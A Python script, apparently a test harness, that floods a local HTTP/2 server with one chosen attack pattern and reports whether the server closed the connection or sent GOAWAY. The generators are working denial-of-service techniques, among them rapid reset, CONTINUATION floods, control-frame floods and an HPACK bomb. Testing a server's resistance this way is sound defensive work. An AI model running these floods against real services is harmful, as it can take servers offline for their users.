"""One visitor that floods an HTTP/2 entry: a process of its own, so that it slows nobody's clock.

usage: abuser.py PORT FLOOD SECONDS

Prints one line of JSON: whether its connection was ended, after how long, and what was sent.
"""

import itertools
import json
import select
import socket
import struct
import sys
import time

from frames import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, PRIORITY,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, block, frame, headers, length, request,
)

FLOODS = {}
GET, POST = request(b"/small"), request(b"/digest", b"POST")
ONE = struct.pack(">I", 1)


def flood(name: str):
    def declare(function):
        FLOODS[name] = function
        return function

    return declare


def odd():
    """Numbers for streams that this visitor opens."""
    return itertools.count(1, 2)


@flood("rapid reset")
def rapid_reset():
    for number in odd():
        yield headers(number, GET) + frame(RST_STREAM, 0, number, struct.pack(">I", 8))


@flood("reset after a moment")
def late_reset():
    # Each has gone on to the backend before it is taken back.
    numbers = odd()
    while True:
        batch = list(itertools.islice(numbers, 50))
        yield b"".join(headers(number, GET) for number in batch)
        yield None
        yield b"".join(frame(RST_STREAM, 0, number, struct.pack(">I", 8)) for number in batch)


@flood("requests that the server must reset")
def made_to_reset():
    # A window that is enlarged by nothing is a stream error (RFC 9113 6.9).
    for number in odd():
        yield headers(number, POST, False) + frame(WINDOW_UPDATE, 0, number, bytes(4))


@flood("CONTINUATION")
def continuation():
    yield frame(HEADERS, END_STREAM, 1, block(GET))
    while True:
        yield frame(CONTINUATION, 0, 1, block([(b"x", b"y" * 100)]))


@flood("empty CONTINUATION")
def empty_continuation():
    yield frame(HEADERS, END_STREAM, 1, block(GET))
    while True:
        yield frame(CONTINUATION, 0, 1)


@flood("PING")
def ping():
    while True:
        yield frame(PING, 0, 0, bytes(8))


@flood("SETTINGS")
def settings():
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65_535))


@flood("PRIORITY")
def priority():
    for number in itertools.cycle(range(1, 10_000, 2)):
        yield frame(PRIORITY, 0, number, struct.pack(">IB", 0, 1))


@flood("frames of no known type")
def unknown():
    while True:
        yield frame(0xBE, 0, 0, b"")


@flood("empty DATA")
def empty_data():
    yield headers(1, POST, False)
    while True:
        yield frame(DATA, 0, 1)


@flood("DATA of padding")
def padding():
    yield headers(1, POST, False)
    while True:
        yield frame(DATA, 8, 1, b"\x00")


@flood("WINDOW_UPDATE")
def window_update():
    yield headers(1, POST, False)
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, ONE) + frame(WINDOW_UPDATE, 0, 1, ONE)


@flood("HPACK bomb")
def bomb():
    # One large field in the table, then thousands of references to it in each head.
    large = b"\x40" + length(1) + b"x" + length(3900) + b"y" * 3900
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, block(GET) + large)
    for number in itertools.count(3, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, number, block(GET) + b"\xbe" * 16_000)


class Abuser:
    """Writes as fast as the other side takes it, and reads whatever comes."""

    def __init__(self, port: int):
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.socket.setblocking(False)
        self.began = time.monotonic()
        self.sent, self.left, self.got, self.goaway, self.ended = 0, b"", b"", None, ""

    def turn(self, wait: float) -> None:
        """Writes and reads what can be written and read, or waits for so long."""
        readable, writable, _ = select.select([self.socket], [self.socket] if self.left else [], [], wait)
        try:
            if writable:
                self.left = self.left[self.socket.send(self.left) :]
            if readable:
                piece = self.socket.recv(1 << 16)
                self.ended = self.ended or ("" if piece else "closed")
                self.take(piece)
        except (ConnectionError, OSError) as error:
            self.ended = type(error).__name__

    def take(self, piece: bytes) -> None:
        """Looks for a GOAWAY in what comes."""
        self.got += piece
        while len(self.got) >= 9 and len(self.got) >= 9 + (size := int.from_bytes(self.got[:3], "big")):
            if self.got[3] == GOAWAY:
                self.goaway = int.from_bytes(self.got[13:17], "big")
            self.got = self.got[9 + size :]

    def run(self, pieces, seconds: float) -> dict:
        """Floods until the connection ends, at most for so long."""
        end = self.began + seconds
        self.left = PREFACE + frame(SETTINGS, 0, 0)
        while not self.ended and time.monotonic() < end:
            pause = False
            while len(self.left) < 1 << 16 and not pause:
                piece = next(pieces)
                pause = piece is None
                self.left += piece or b""
                self.sent += not pause
            until = time.monotonic() + (0.02 if pause else 0)
            while not self.ended and (self.left or time.monotonic() < until) and time.monotonic() < end:
                self.turn(0.01)
                if not pause:
                    break
        took = time.monotonic() - self.began
        return {"ended": self.ended, "goaway": self.goaway, "seconds": round(took, 3), "sent": self.sent}


if __name__ == "__main__":
    print(json.dumps(Abuser(int(sys.argv[1])).run(FLOODS[sys.argv[2]](), float(sys.argv[3]))))
